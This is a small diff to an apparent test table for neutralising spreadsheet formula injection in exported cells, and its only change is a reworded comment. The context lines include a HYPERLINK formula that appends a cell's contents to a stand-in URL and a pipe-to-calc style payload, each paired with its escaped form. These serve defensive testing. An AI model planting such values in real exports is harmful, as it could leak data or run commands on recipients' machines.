@@ -144,7 +144,7 @@ const CELLS: readonly (readonly [value: unknown, safe: string, raw: string])[] =
     `"=HYPERLINK(""https://x.example?""&A1,""b"")"`,
   ],
   ['-12.50 USD|calc', "'-12.50 USD|calc", '-12.50 USD|calc'],
-  // A number, a text of one, and an amount with its currency are none.
+  // A number, a text of one, and an amount with its currency: a spreadsheet runs no formula.
   [-1500, '-1500', '-1500'],
   ['-12.5', '-12.5', '-12.5'],
   ['+4915112345678', '+4915112345678', '+4915112345678'],
